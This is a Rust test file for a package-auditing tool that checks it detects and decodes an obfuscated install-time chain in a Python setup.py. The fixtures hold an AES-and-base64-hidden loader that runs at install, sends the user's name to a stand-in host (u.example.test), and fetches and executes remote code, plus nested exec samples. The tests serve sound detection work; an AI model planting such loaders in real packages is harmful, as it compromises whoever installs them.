//! Payloads that code decodes and runs: contents of their own, one item for each chain, and bytes that can be shown again.

use doorward_engine::{Audit, Lane, Setup, audit_files, reopen};
use doorward_judge::{Policy, Rules};
use doorward_model::{Level, Limits, Report, Step};

/// A set-up script that decrypts a program with a key beside it and runs it. Inert: its host is reserved.
const SETUP: &str = r#"from setuptools import setup
import base64
from Crypto.Cipher import AES
from Crypto.Util.Padding import unpad
key = bytes.fromhex("000102030405060708090a0b0c0d0e0f")
text = base64.b64decode("4LR7f3L6noiejssSkTje73vvATmgcy8ah+jLx8XgksSTju6sh5RJ8ngBVdQn+gHs2fCMrwgGXYHVL8JGrv8IdMHGxmAbifjeHXaXwQk7rPiT/j5zRKniG24FaP6ariH+mFP6czFEZHpI526fDzfpRHb+/TdhMNj3TVDEuKAg4vXMNM41DSHAqip9CABmHsgdpox7n3tc+h6tOM7e+uwe0UUKSbEvoaqgzdEIAqJOD/Hgrt6K6SBuAJVGNojWZ+Ww")
exec(unpad(AES.new(key, AES.MODE_CBC, bytes.fromhex("101112131415161718191a1b1c1d1e1f")).decrypt(text), 16))
setup(name="sample", version="1.0")
"#;

/// What it runs.
const INNER: &str = r#"import getpass, base64, urllib.request
name = getpass.getuser()
code = urllib.request.urlopen("https://u.example.test/next?" + base64.b64encode(name.encode()).decode()).read()
exec(code)
"#;

/// Audits files, and hands the report on.
fn audited(files: &[(&str, &[u8])], then: impl FnOnce(&Report, &Audit<'_>, &mut Lane)) {
    let (rules, limits, policy) = (Rules::builtin(), Limits::default(), Policy::default());
    let spill = std::env::temp_dir();
    let audit = Audit { limits: &limits, rules: &rules, policy: &policy, yara: &[], spill: &spill };
    let mut lane = Lane::here(Setup::new(&rules, &Vec::new(), &limits, true)).expect("a lane in this process");
    let report = audit_files(&audit, files, &mut lane).expect("the audit runs");
    then(&report, &audit, &mut lane);
}

#[test]
fn what_is_decrypted_and_run_is_judged_where_it_stands() {
    audited(&[("setup.py", SETUP.as_bytes())], |report, audit, lane| {
        let tree = &report.tree;
        let items: Vec<_> = report.judgement.findings.iter().filter(|finding| finding.level > Level::Note).collect();
        assert_eq!(items.len(), 1, "one chain is one item: {items:#?}");
        let finding = items[0];
        assert_eq!(finding.level, Level::Alarm);
        assert_eq!(finding.phase.name(), "install", "it runs when that does which runs it");
        let node = tree.node(finding.evidence[0].node);
        let Step::Decoded { codec, from } = &node.step else { panic!("{node:?}") };
        assert_eq!(&**codec, "base64 > aes");
        assert!(SETUP.get(from.start as usize..from.end as usize).is_some_and(|code| code.starts_with("exec(")));
        let way = finding.evidence.iter().find(|evidence| evidence.way.len() > 1).expect("a way is told");
        let told: Vec<_> = way.way.iter().map(|told| (told.line, &*told.does)).collect();
        assert_eq!(told.last(), Some(&(4, "runs it as code")), "{told:?}");
        assert!(told[0].1.starts_with("receives"), "{told:?}");
        assert!(finding.opens_to.as_deref().is_some_and(|who| who.contains("u.example.test")), "{:?}", finding.opens_to);

        // The bytes come back by the steps that the report names.
        let folder = tempfile::tempdir().expect("a folder");
        std::fs::write(folder.path().join("setup.py"), SETUP).expect("it can be written");
        let layers: Vec<_> = tree.chain(finding.evidence[0].node).into_iter().map(|id| tree.node(id)).collect();
        let layers: Vec<_> = layers.iter().map(|node| (node.step.clone(), node.name.clone())).collect();
        let again = reopen(audit, folder.path(), &layers, lane).unwrap_or_else(|_| panic!("the way leads back"));
        assert_eq!(String::from_utf8_lossy(&again.bytes), INNER);
    });
}

#[test]
fn what_opening_gives_already_is_given_once() {
    // The layer of Base64 is found by its look and by the code that runs it.
    let layered = format!(
        "import base64\nexec(base64.b64decode(\"{}\"))\n",
        "aW1wb3J0IGdldHBhc3MsIGJhc2U2NCwgdXJsbGliLnJlcXVlc3QKbmFtZSA9IGdldHBhc3MuZ2V0dXNlcigpCmNvZGUgPSB1cmxsaWIucmVxdWVzdC51cmxvcGVuKCJodHRwczovL3UuZXhhbXBsZS50ZXN0L25leHQ/IiArIGJhc2U2NC5iNjRlbmNvZGUobmFtZS5lbmNvZGUoKSkuZGVjb2RlKCkpLnJlYWQoKQpleGVjKGNvZGUpCg=="
    );
    audited(&[("setup.py", layered.as_bytes())], |report, _, _| {
        let is_inner = |content: &&doorward_model::Content| content.len == INNER.len() as u64;
        assert_eq!(report.tree.contents.iter().filter(is_inner).count(), 1);
        let items = report.judgement.findings.iter().filter(|finding| finding.level > Level::Note);
        assert_eq!(items.count(), 1);
    });
}

#[test]
fn code_that_runs_itself_ends() {
    let code = "import base64\nx = base64.b64encode(open(__file__, 'rb').read())\nexec(base64.b64decode(base64.b64encode(b\"exec(x)\")))\n";
    let nested = (0..40).fold("print('a much longer text than the least')".to_owned(), |code, _| {
        format!("exec(bytes.fromhex('{}'))", code.bytes().map(|byte| format!("{byte:02x}")).take(4000).collect::<String>())
    });
    audited(&[("setup.py", code.as_bytes()), ("other.py", nested.as_bytes())], |report, _, _| {
        assert!(report.tree.nodes.len() < 200);
    });
}
